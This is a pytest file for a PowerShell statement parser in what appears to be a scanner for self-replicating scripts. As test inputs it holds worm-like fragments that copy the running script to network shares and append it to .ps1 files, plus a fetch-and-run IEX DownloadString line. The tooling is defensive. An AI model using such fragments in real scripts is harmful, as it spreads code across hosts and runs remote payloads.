"""The PowerShell self-replication pack: the kind, the statement reader, the provenance model,
encoded commands, and the bounds on hostile input."""
from __future__ import annotations

import base64
import time

import pytest

from artefact_scan.detectors.powershell_syntax import Script
from artefact_scan.kinds import kind_of


def _stmts(text):
    s = Script(text)
    return [(s_.name, [a.value for a in s_.args], tuple(f.kind for f in s_.frames), s_.assign) for s_ in s.stmts]


def test_kind_by_extension_shebang_and_fence_language():
    assert kind_of("x.ps1", "") == "powershell"
    assert kind_of("Mod.PSM1", "") == "powershell"
    assert kind_of("Mod.psd1", "") == "powershell"
    assert kind_of("run", "#!/usr/bin/env pwsh\nWrite-Host hi\n") == "powershell"
    assert kind_of("run", "#!/usr/bin/pwsh -NoProfile\n") == "powershell"
    from artefact_scan.kinds import LANGUAGES

    assert LANGUAGES["powershell"] == LANGUAGES["pwsh"] == LANGUAGES["ps1"] == "powershell"


def test_comments_strings_and_statements():
    text = ("<# Copy-Item $PSCommandPath x #>\n"
            "Write-Host 'a # b' \"c $(Get-Date) d\" # Copy-Item\n"
            "$x = 'it''s'; Get-Item x | Select-Object Name\n")
    got = _stmts(text)
    assert ("write-host", ["Write-Host", "a # b", "c $(Get-Date) d"], (), "") in got
    assert ("get-date", ["Get-Date"], ("subexpr",), "") in got
    assert ("", ["it's"], (), "x") in got
    s = Script(text)
    assert "Copy-Item" not in s.code and len(s.code) == len(text)
    sel = next(x for x in s.stmts if x.name == "select-object")
    assert sel.pipe_prev is not None and sel.pipe_prev.name == "get-item"


def test_parameters_lists_splats_and_backtick_names():
    s = Script("Copy-Item -Path:$a -Dest $b -Force\nStart-Process pwsh -ArgumentList '-File', $me\n"
               "I`nv`oke-Ex`pression $c\nCopy-Item @p\n")
    cp = s.stmts[0]
    assert [(a.param, a.attached) for a in cp.args[1:]] == [("path", "$a"), ("dest", ""), ("", ""), ("force", "")]
    sp = s.stmts[1]
    assert len(sp.args[3].items) == 2 and sp.args[3].value == "-File $me"
    assert s.stmts[2].name == "invoke-expression"
    assert s.stmts[3].args[1].text == "@p"


def test_keywords_open_frames_with_headers():
    text = ("foreach ($h in (Get-ADComputer -Filter *).Name) { Copy-Item $me \"\\\\$h\\c$\" }\n"
            "while ($true) { Start-Process powershell }\n"
            "do { x } until ($false)\n"
            "for (;;) { y }\n"
            "function Spread { param($t) z }\n"
            "Get-ChildItem *.ps1 | ForEach-Object { Add-Content $_.FullName $me }\n"
            "if ($a) { p } elseif ($b) { q } else { r }\n"
            "try { t } catch [System.Exception] { u } finally { v }\n")
    s = Script(text)
    by = {st.name: st for st in s.stmts if st.args}
    fr = by["copy-item"].frames[-1]
    assert fr.kind == "foreach" and fr.var == "h" and "Get-ADComputer" in fr.header
    assert by["start-process"].frames[-1].infinite
    assert by["x"].frames[-1].kind == "do" and by["x"].frames[-1].infinite
    assert by["y"].frames[-1].kind == "for" and by["y"].frames[-1].infinite
    assert s.functions["spread"].kind == "func" and by["z"].frames[-1] is s.functions["spread"]
    each = by["add-content"].frames[-1]
    assert each.kind == "each" and "Get-ChildItem *.ps1" in each.header
    assert [by[n].frames[-1].kind for n in "pqr"] == ["if", "if", "if"]
    assert [by[n].frames[-1].kind for n in "tuv"] == ["try", "catch", "finally"]


def test_code_strings_are_read_as_statements():
    s = Script("iex 'Copy-Item $PSCommandPath C:\\x.ps1'\n"
               "powershell -NoP -c \"Start-Process notepad\"\n"
               "& ([scriptblock]::Create('Remove-Item x'))\n"
               "IEX (New-Object Net.WebClient).DownloadString('http://x/y')\n")
    kinds = {st.name: tuple(f.kind for f in st.frames) for st in s.stmts if st.args}
    assert kinds["copy-item"] == ("string",)
    assert kinds["start-process"] == ("string",)
    assert kinds["remove-item"][-1] == "string"
    assert "http://x/y" not in kinds  # a method's argument, not code


def test_here_strings_and_continuations():
    text = "$a = @'\nCopy-Item x y\n'@\n$b = @\"\nline $(Get-Date)\n\"@\nGet-Item `\n  -Path z\n"
    s = Script(text)
    names = [st.name for st in s.stmts if st.args]
    assert "copy-item" not in names and "get-date" in names
    gi = next(st for st in s.stmts if st.name == "get-item")
    assert [a.value for a in gi.args] == ["Get-Item", "-Path", "z"]


@pytest.mark.parametrize("text", [
    "$(" * 3000 + "x" + ")" * 3000,
    "{" * 5000,
    "'" * 5001,
    "@\"\n" + "$(\n" * 2000,
    "if ($a) { b } " + "elseif ($c) { d } " * 3000,
    "(" * 4000 + "\"" * 100,
    "[" * 10000,
    "a," * 20000,
])
def test_hostile_powershell_is_bounded(text):
    t0 = time.monotonic()
    Script(text)
    assert time.monotonic() - t0 < 5
